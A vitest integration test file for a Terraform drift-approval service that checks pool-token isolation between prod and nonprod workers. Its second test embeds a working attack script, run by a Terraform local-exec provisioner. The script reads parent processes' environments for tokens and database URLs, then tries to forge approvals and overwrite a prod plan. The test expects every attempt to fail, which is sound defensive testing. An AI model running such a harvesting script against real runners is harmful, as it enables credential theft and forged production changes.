import { readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { execa } from 'execa';
import { afterEach, describe, expect, it } from 'vitest';
import { ACTION_IDS } from '../../src/slack/action-ids.js';
import { BIN, HAS_BUILD, NO_BUILD_REASON, runCli } from '../helpers/cli.js';
import { usePostgres } from '../helpers/postgres.js';
import { driftTags, type PoolWorld, poolToken, startPoolWorld, topLevel } from '../helpers/pool-world.js';
import { waitFor } from '../helpers/process-wait.js';
import type { EmulatedMessage } from '../helpers/slack-emulator.js';
import { APPROVERS, LEAD1, LEAD2, textOf } from './fixtures.js';

const postgres = usePostgres();
let world: PoolWorld | undefined;
afterEach(async () => {
  await world?.close();
  world = undefined;
});

const PROD = 'prod/app';
const DEV = 'nonprod/app';

const VPC = (cidr: string) => `
resource "terraform_data" "vpc" {
  input = { cidr = "${cidr}", tags = { Name = "main", Team = "core" } }
}
`;

/**
 * The attack, as a module of a nonprod stack: at apply time it looks through the environment of every
 * process above it for driftgate's credentials, and uses whatever it finds against prod.
 */
const ATTACK_SCRIPT = `
const fs = require('node:fs');
const found = { tokens: [], storeUrls: [], environs: 0, denied: 0 };
let pid = process.ppid;
while (pid > 1) {
  try {
    const env = fs.readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0');
    found.environs++;
    for (const line of env) {
      const value = line.slice(line.indexOf('=') + 1);
      if (line.startsWith('DRIFTGATE_POOL_TOKEN=')) found.tokens.push(value);
      if (/^postgres(ql)?:\\/\\//.test(value)) found.storeUrls.push(value);
    }
  } catch { found.denied++; }
  pid = Number(fs.readFileSync('/proc/' + pid + '/stat', 'utf8').split(') ')[1].split(' ')[1]);
}
const target = JSON.parse(fs.readFileSync(process.argv[2], 'utf8'));
// Applied once by a person to set the stack up: nothing to attack yet.
if (!target.prodRun) process.exit(0);
(async () => {
  const attempts = [];
  for (const url of found.storeUrls) {
    const pg = require(target.pg);
    const db = new pg.Client({ connectionString: url });
    try {
      await db.connect();
      await db.query("INSERT INTO approvals (run_id, user_id, at) VALUES ($1, 'UATTACKER', 0)", [target.prodRun]);
      await db.query("UPDATE runs SET state = 'approved' WHERE id = $1", [target.prodRun]);
      attempts.push({ what: 'store', ok: true });
    } catch (err) { attempts.push({ what: 'store', ok: false, error: String(err) }); }
    await db.end().catch(() => {});
  }
  for (const token of found.tokens) {
    const headers = { authorization: 'Bearer ' + token, 'driftgate-agent-protocol': '1', 'driftgate-lease': 'x'.repeat(43), 'content-type': 'application/json' };
    const api = target.agent + '/agent/v1';
    const call = async (what, method, path, body) => {
      const res = await fetch(api + path, { method, headers, body: body === undefined ? undefined : JSON.stringify(body) });
      attempts.push({ what, status: res.status, body: (await res.text()).slice(0, 300) });
    };
    await call('whoami', 'GET', '/whoami');
    await call('claim a prod job', 'POST', '/jobs/claim', { waitSeconds: 0, pool: 'prod' });
    await call('claim any job', 'POST', '/jobs/claim', { waitSeconds: 0 });
    await call('report for the prod run', 'POST', '/jobs/' + target.prodRun + '/result', { ok: true, stdout: '', stderr: '', exitCode: 0, durationMs: 1, truncated: false });
    await call('read the prod plan', 'GET', '/jobs/' + target.prodRun + '/files/plan');
    await call('overwrite the prod plan', 'PUT', '/jobs/' + target.prodRun + '/files/plan', 'forged');
  }
  fs.writeFileSync(process.argv[3], JSON.stringify({ found: { tokens: found.tokens.length, storeUrls: found.storeUrls.length, environs: found.environs, denied: found.denied }, attempts }, null, 2));
})();
`;

const ATTACKER = `
resource "terraform_data" "vpc" {
  input = { cidr = "10.1.0.0/16", tags = { Name = "dev", Team = "core" } }
}
resource "terraform_data" "attack" {
  input = "once"
  provisioner "local-exec" {
    command = "node attack.cjs target.json attack-result.json"
  }
}
`;

async function agentWorld(stacks: Record<string, string>): Promise<{ w: PoolWorld; agentUrl: string }> {
  world = await startPoolWorld({
    databaseUrl: await postgres.createDatabase(),
    stacks,
    stackSettings: { [PROD]: { environment: 'prod', pool: 'prod' }, [DEV]: { pool: 'nonprod' } },
    config: {
      ...APPROVERS,
      runners: { type: 'workers', unservedAlertAfter: '2s', agent: { host: '127.0.0.1' } },
    },
  });
  return { w: world, agentUrl: world.agentUrl };
}

function alertOf(w: PoolWorld, stack: string): Promise<EmulatedMessage> {
  return waitFor(
    `the alert of ${stack}`,
    () => topLevel(w).find((m) => textOf(m).includes(`Drift detected in ${stack}`)),
    120_000,
  );
}

describe.skipIf(!HAS_BUILD)(`runners: workers on the agent API (${HAS_BUILD ? BIN : NO_BUILD_REASON})`, () => {
  it('plans and applies on workers that hold only the control plane’s address and their pool token', async () => {
    const { w, agentUrl } = await agentWorld({ [PROD]: VPC('10.0.0.0/16'), [DEV]: VPC('10.1.0.0/16') });
    for (const stack of [PROD, DEV]) await w.applyWithTerraform(stack);
    const prodToken = await poolToken(w, 'prod');
    const devToken = await poolToken(w, 'nonprod');
    // Started before its control plane: it says it cannot reach it, retries, and takes jobs once it can.
    const devStarting = w.worker('nonprod', {
      DRIFTGATE_CONTROL_PLANE_URL: agentUrl,
      DRIFTGATE_POOL_TOKEN: devToken,
    });
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    const serve = await w.serve();
    const devWorker = await devStarting;
    expect(devWorker.logs().some((l) => l.includes('cannot reach the control plane; retrying'))).toBe(true);

    // Given the store's URL, a worker refuses to start and names the variable.
    await expect(
      w.worker('prod', {
        DRIFTGATE_CONTROL_PLANE_URL: agentUrl,
        DRIFTGATE_POOL_TOKEN: prodToken,
        DATABASE_URL: w.baseEnv.DATABASE_URL!,
      }),
    ).rejects.toThrow(/environment DATABASE_URL: a worker on the agent API must not hold the control plane's secrets/);
    // A token of another pool: refused too.
    await expect(
      w.worker('prod', { DRIFTGATE_CONTROL_PLANE_URL: agentUrl, DRIFTGATE_POOL_TOKEN: devToken }),
    ).rejects.toThrow(/the token is pool nonprod's, and this worker was started for pool prod/);

    const prodWorker = await w.worker('prod', {
      DRIFTGATE_CONTROL_PLANE_URL: agentUrl,
      DRIFTGATE_POOL_TOKEN: prodToken,
    });
    await driftTags(w, PROD);
    await driftTags(w, DEV);
    expect((await w.command(serve, `check ${PROD} ${DEV}`, LEAD1)).status).toBe(200);
    const prodAlert = await alertOf(w, PROD);
    await alertOf(w, DEV);
    const ran = (logs: string[], kind: string, stack: string) =>
      logs.some((l) => l.includes('"job done"') && l.includes(`"kind":"${kind}"`) && l.includes(`"stack":"${stack}"`));
    expect(ran(prodWorker.logs(), 'plan', PROD)).toBe(true);
    expect(ran(devWorker.logs(), 'plan', DEV)).toBe(true);
    expect(ran(prodWorker.logs(), 'plan', DEV)).toBe(false);
    expect(ran(devWorker.logs(), 'plan', PROD)).toBe(false);

    const run = await w.withStore(async (store) => (await store.listRuns({ stack: PROD, states: ['drifted'] }))[0]);
    expect(run?.planSha256).toMatch(/^[0-9a-f]{64}$/);
    const message = { channel: prodAlert.channel, ts: prodAlert.ts };
    expect((await w.click(serve, ACTION_IDS.approve, run!.id, LEAD1, message)).status).toBe(200);
    expect((await w.click(serve, ACTION_IDS.approve, run!.id, LEAD2, message)).status).toBe(200);
    const applied = await waitFor(
      'the applied message',
      () => {
        const current = w.emulator.message(message.channel, message.ts);
        return /Applied in \d+ s/.test(textOf(current)) ? current : undefined;
      },
      120_000,
    );
    expect(textOf(applied)).toContain('verified: no drift');
    expect((await w.withStore((s) => s.getRun(run!.id)))?.state).toBe('applied');
    expect(ran(prodWorker.logs(), 'apply', PROD)).toBe(true);
    // The worker's terraform saw neither the token nor anything of the store.
    const terraformLog = prodWorker.logs().join('\n');
    expect(terraformLog).not.toContain(prodToken);

    // Each pool's workers, as their heartbeats through the agent API say (the pool is their token's).
    const metrics = await (await fetch(`${serve.base}/metrics`)).text();
    expect(metrics).toContain('driftgate_pool_workers{pool="prod"} 1');
    expect(metrics).toContain('driftgate_pool_workers{pool="nonprod"} 1');

    // `doctor --pool` where such a worker runs: checked as that worker, and what it must not hold is named.
    const doctor = (extra: Record<string, string>) =>
      execa('node', [BIN, 'doctor', '--pool', 'prod', '--config', w.configFile], {
        env: {
          PATH: process.env.PATH,
          HOME: process.env.HOME,
          ...w.tf.env,
          DRIFTGATE_DATA_DIR: join(w.tf.dir, 'data-doctor'),
          DRIFTGATE_CONTROL_PLANE_URL: agentUrl,
          DRIFTGATE_POOL_TOKEN: prodToken,
          ...extra,
        },
        extendEnv: false,
        reject: false,
      });
    const healthy = await doctor({});
    expect(healthy.stdout).toContain(`answers and takes token ${prodToken.slice(5, 21)} as pool prod's`);
    expect(healthy.stdout).toContain("holds nothing of the control plane's");
    expect(healthy.exitCode).toBe(0);
    const leaky = await doctor({ DATABASE_URL: w.baseEnv.DATABASE_URL! });
    expect(leaky.exitCode).toBe(1);
    expect(leaky.stdout).toContain("holds DATABASE_URL, the control plane's");

    // Revoked: the worker's next call is refused, and it exits non-zero naming the token.
    const id = prodToken.slice(5, 21);
    const env = { ...w.baseEnv, DRIFTGATE_DATA_DIR: join(w.tf.dir, 'data-cli') };
    expect(
      (await runCli(['pool', 'token', 'revoke', 'prod', id, '--config', w.configFile], { cwd: w.tf.dir, env })).code,
    ).toBe(0);
    await waitFor(
      'the revoked worker to stop',
      () => (prodWorker.logs().some((l) => l.includes(`pool token ${id} was revoked`)) ? true : undefined),
      60_000,
    );
    // Prod has no worker now: a check of it waits, and Slack is told instead of nothing.
    expect((await w.command(serve, `check ${PROD}`, LEAD1)).status).toBe(200);
    await waitFor(
      'the unserved pool notice',
      () => topLevel(w).find((m) => textOf(m).includes('No worker for pool prod')),
      120_000,
    );
  }, 300_000);

  it('the attack: a nonprod module that reads its worker’s environment cannot get a prod run applied, read or told', async () => {
    const { w, agentUrl } = await agentWorld({ [PROD]: VPC('10.0.0.0/16'), [DEV]: ATTACKER });
    await writeFile(join(w.stackDir(DEV), 'attack.cjs'), ATTACK_SCRIPT);
    await writeFile(join(w.stackDir(DEV), 'target.json'), '{}');
    for (const stack of [PROD, DEV]) await w.applyWithTerraform(stack);
    await rm(join(w.stackDir(DEV), 'attack-result.json'), { force: true });
    const serve = await w.serve();
    await w.worker('prod', {
      DRIFTGATE_CONTROL_PLANE_URL: agentUrl,
      DRIFTGATE_POOL_TOKEN: await poolToken(w, 'prod'),
    });
    await w.worker('nonprod', {
      DRIFTGATE_CONTROL_PLANE_URL: agentUrl,
      DRIFTGATE_POOL_TOKEN: await poolToken(w, 'nonprod'),
    });

    // prod drifted and waits for two approvals; the module knows its run id.
    await driftTags(w, PROD);
    expect((await w.command(serve, `check ${PROD}`, LEAD1)).status).toBe(200);
    const prodAlert = await alertOf(w, PROD);
    const prodRun = await w.withStore(async (s) => (await s.listRuns({ stack: PROD, states: ['drifted'] }))[0]!);
    await writeFile(
      join(w.stackDir(DEV), 'target.json'),
      JSON.stringify({ prodRun: prodRun.id, agent: agentUrl, pg: join(process.cwd(), 'node_modules/pg') }),
    );

    // The nonprod change is approved and applied on the nonprod worker: the module runs there.
    await driftTags(w, DEV);
    await execa('terraform', ['state', 'rm', 'terraform_data.attack'], {
      cwd: w.stackDir(DEV),
      env: w.baseEnv,
      extendEnv: false,
    });
    expect((await w.command(serve, `check ${DEV}`, LEAD1)).status).toBe(200);
    const devAlert = await alertOf(w, DEV);
    const devRun = await w.withStore(async (s) => (await s.listRuns({ stack: DEV, states: ['drifted'] }))[0]!);
    expect(
      (await w.click(serve, ACTION_IDS.approve, devRun.id, LEAD1, { channel: devAlert.channel, ts: devAlert.ts }))
        .status,
    ).toBe(200);
    const resultFile = join(w.stackDir(DEV), 'attack-result.json');
    const result = await waitFor(
      "the module's findings",
      async () => (await readFile(resultFile, 'utf8').catch(() => undefined)) ?? undefined,
      120_000,
    );
    const { found, attempts } = JSON.parse(result) as {
      found: { tokens: number; storeUrls: number; environs: number };
      attempts: { what: string; ok?: boolean; status?: number; body?: string }[];
    };
    // It read its worker's environment (same user: terraform runs as the worker here, see runners.runAs):
    // the nonprod token is there, and no store URL at all.
    expect(found.environs).toBeGreaterThan(1);
    expect(found.storeUrls).toBe(0);
    expect(found.tokens).toBe(1);
    const statusOf = (what: string) => attempts.find((a) => a.what === what)?.status;
    expect(attempts.find((a) => a.what === 'whoami')?.body).toContain('"pool":"nonprod"');
    // The token fetches only nonprod's jobs: a request naming a pool is refused, and prod's run is no job of its.
    expect(statusOf('claim a prod job')).toBe(400);
    expect(statusOf('claim any job')).toBe(204);
    expect(statusOf('report for the prod run')).toBe(404);
    expect(statusOf('read the prod plan')).toBe(404);
    expect(statusOf('overwrite the prod plan')).toBe(404);
    expect(attempts.some((a) => a.what === 'store')).toBe(false);

    // prod is as it was: undecided, no approval, its plan as recorded; the refusals are audited.
    const after = await w.withStore((s) => s.getRun(prodRun.id));
    expect(after?.state).toBe('drifted');
    expect(after?.planSha256).toBe(prodRun.planSha256);
    expect(await w.withStore((s) => s.listApprovals(prodRun.id))).toEqual([]);
    const refused = await w.withStore((s) => s.listAudit({ limit: 100 }));
    expect(refused.filter((a) => a.action === 'agent_request_refused').length).toBeGreaterThanOrEqual(3);
    expect(textOf(w.emulator.message(prodAlert.channel, prodAlert.ts))).toContain('Waiting for 2 approvals');
    expect((await w.withStore((s) => s.listAudit({ runId: prodRun.id }))).map((a) => a.action)).not.toContain(
      'apply_started',
    );
  }, 300_000);
});
